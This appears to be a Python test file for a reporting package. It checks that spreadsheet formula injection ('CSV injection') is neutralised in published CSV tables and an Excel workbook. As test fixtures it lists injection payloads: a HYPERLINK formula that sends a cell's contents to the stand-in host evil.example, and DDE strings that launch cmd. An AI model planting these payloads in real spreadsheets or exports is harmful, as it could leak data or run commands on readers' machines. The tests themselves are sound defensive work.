"""Spreadsheet formula injection (OWASP "CSV injection"): a text cell that a spreadsheet would run
as a formula is written as text in tables/*.csv; numbers are untouched."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assess.report.outputs import ChapterOutputs
from assess.report.safe_text import (
    FORMULA_TRIGGERS,
    is_formula_like,
    neutralise_formula,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text: str) -> None:
    safe = neutralise_formula(text)
    assert safe.startswith("'") and safe[1:] == text
    assert not is_formula_like(safe)


@pytest.mark.parametrize("text", ["-3", "-1.5", "+4", "-1.5e3", "1,234", "[c]", "Bassett", "", "A-B", "e-mail@x"])
def test_numbers_and_plain_text_are_untouched(text: str) -> None:
    assert neutralise_formula(text) == text


@settings(deadline=None)  # timing is not what is tested; the machine is shared
@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    safe = neutralise_formula(text)
    assert not is_formula_like(safe)
    assert safe in (text, "'" + text)
    assert neutralise_formula(safe) == safe  # idempotent


@settings(deadline=None)  # timing is not what is tested; the machine is shared
@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_a_number_written_as_text_is_untouched(number: float) -> None:
    assert neutralise_formula(str(number)) == str(number)


def test_triggers_are_owasps() -> None:
    assert set("=+-@\t\r") <= set(FORMULA_TRIGGERS)


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_published_csv_cells_and_headers_are_neutralised_numbers_kept(tmp_path: Path) -> None:
    df = pd.DataFrame({
        "ward": ['=HYPERLINK("http://evil.example","x")', "@cmd", "Bassett", "-Minus ward"],
        "=header": ["+evil", "ok", "x", "y"],
        "crimes": [120, -3, 40, 57],
        "change": [-1.5, 2.25, -0.5, 0.0],
    })
    out = ChapterOutputs(tmp_path, "03_places")
    out.table("wards", df, caption="Crimes by ward", count_columns=[], display=False)
    rows = _rows(tmp_path / "tables" / "03_places__wards.csv")
    assert rows[0] == ["ward", "'=header", "crimes", "change"]
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@cmd", "Bassett", "'-Minus ward"]
    assert [r[1] for r in rows[1:]] == ["'+evil", "ok", "x", "y"]
    assert [r[2] for r in rows[1:]] == ["120", "-3", "40", "57"]
    assert [r[3] for r in rows[1:]] == ["-1.5", "2.25", "-0.5", "0.0"]
    for row in rows:
        assert not any(is_formula_like(cell) for cell in row), row


def test_a_ward_named_like_a_formula_in_an_object_column_with_numbers(tmp_path: Path) -> None:
    df = pd.DataFrame({"value": pd.Series(["=1+2", 3, -4.5, None], dtype=object)})
    ChapterOutputs(tmp_path, "03_places").table("mixed", df, caption="Mixed", suppress=False, display=False)
    rows = _rows(tmp_path / "tables" / "03_places__mixed.csv")
    assert [r[0] for r in rows[1:]] == ["'=1+2", "3", "-4.5", ""]


def test_tables_without_formulas_are_written_byte_for_byte_as_pandas_writes_them() -> None:
    """Neutralising changes only formula-like text: a column mixing whole and decimal numbers keeps
    31019 (not 31019.0), and dates, categories, booleans and missing values print as before."""
    import numpy as np

    from assess.report.outputs import csv_text

    df = pd.DataFrame({
        "value": pd.Series([31019, 40.6, None, 7], dtype=object),
        "name": pd.array(["Bassett", None, "A-B", "x"], dtype="string"),
        "when": pd.to_datetime(["2024-01-01", "2024-02-01", None, "2024-04-01"]),
        "kind": pd.Categorical(["a", "b", None, "a"]),
        "flag": [True, False, True, False],
        "rate": [1.5, np.nan, -2.25, 0.0],
        "count": pd.array([1, None, 3, -4], dtype="Int64"),
        "text": ["-3", "+4.5", "[c]", ""],
    })
    assert csv_text(df) == df.to_csv(index=False, lineterminator="\n")


def test_the_workbook_holds_the_tables_own_text_as_text_never_a_formula(tmp_path: Path) -> None:
    """tables.xlsx is written from the neutralised CSV files: each formula-like cell is stored as
    its own text (the CSV's quote taken off), as a string with Excel's quote prefix; no cell of
    any sheet is a formula, and numbers stay numbers."""
    import zipfile

    from openpyxl import load_workbook

    from assess.report.workbook import WorkbookTable, write_workbook

    df = pd.DataFrame({
        "ward": ['=HYPERLINK("http://evil.example","x")', "@cmd", "Bassett", "-Minus ward", "'quoted"],
        "crimes": [120, -3, 40, 57, 1],
    })
    ChapterOutputs(tmp_path, "03_places").table("wards", df, caption="Crimes by ward", count_columns=[], display=False)
    csv_path = tmp_path / "tables" / "03_places__wards.csv"
    assert _rows(csv_path)[1][0].startswith("'=HYPERLINK")  # neutralised in the CSV
    book = tmp_path / "tables.xlsx"
    sheets = write_workbook(book, [WorkbookTable("03_places", "wards", csv_path, "Crimes by ward", "Places")],
                            report_title='=HYPERLINK("http://evil.example","title")', year="2024/25", synthetic=True,
                            suppression_threshold=5)
    wb = load_workbook(book)
    ws = wb[sheets["03_places__wards"]]
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    for text in ('=HYPERLINK("http://evil.example","x")', "@cmd", "-Minus ward"):
        cell = cells[text]
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert "'quoted" in cells and not cells["'quoted"].quotePrefix  # a quote of its own is kept as written
    assert cells["Bassett"].data_type == "s" and not cells["Bassett"].quotePrefix
    numbers = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert -3 in numbers and 120 in numbers
    title = wb["Cover"]["A1"]
    assert title.value.startswith('=HYPERLINK("http://evil.example","title")') and title.quotePrefix
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
